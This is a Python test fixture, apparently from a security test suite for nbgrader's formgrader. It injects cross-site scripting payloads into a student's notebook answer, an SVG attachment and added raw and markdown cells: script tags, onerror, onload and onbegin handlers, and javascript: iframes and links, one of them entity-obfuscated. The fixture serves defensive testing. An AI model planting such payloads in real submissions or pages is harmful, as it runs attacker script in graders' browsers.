"""A short answer, an added markdown cell and an added raw cell carry HTML that runs in formgrader."""

import runpy
from pathlib import Path

import nbformat

_helpers = runpy.run_path(str(Path(__file__).with_name("_formgrader_attack.py")))
attack, attack_url = _helpers["attack"], _helpers["attack_url"]

NOTEBOOK = "00_meshes"
DESCRIPTION = "the short answer holds <img onerror>, <script>, <iframe src=javascript:>, a javascript: link; raw and markdown cells added"
SOLUTIONS = {}
LOSES = set()

ANSWER = f"""A nut has genus one.

<img src=x onerror="{attack("answer-img")}">

<script>{attack("answer-script")}</script>

<iframe src="javascript:{attack("answer-iframe")}"></iframe>

Also [a link]({attack_url("click-answer-link")}) and [another]({attack_url("click-answer-entity").replace(":", "&#58;", 1)}).

![a picture](attachment:shown.svg)
"""
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{attack("attachment-svg")}"><circle r="5"/></svg>'


def EDIT(nb):
    index, answer = next((i, c) for i, c in enumerate(nb.cells) if (c.metadata.get("nbgrader") or {}).get("grade_id") == "answer_nut")
    answer.source = ANSWER
    answer["attachments"] = {"shown.svg": {"image/svg+xml": SVG}}
    nb.cells.insert(index + 1, nbformat.v4.new_raw_cell(f"<script>{attack('raw-cell')}</script>"))
    nb.cells.insert(index + 2, nbformat.v4.new_markdown_cell(f'<svg><animate onbegin="{attack("markdown-svg")}" attributeName="x" dur="1s"/></svg>'))
    return nb
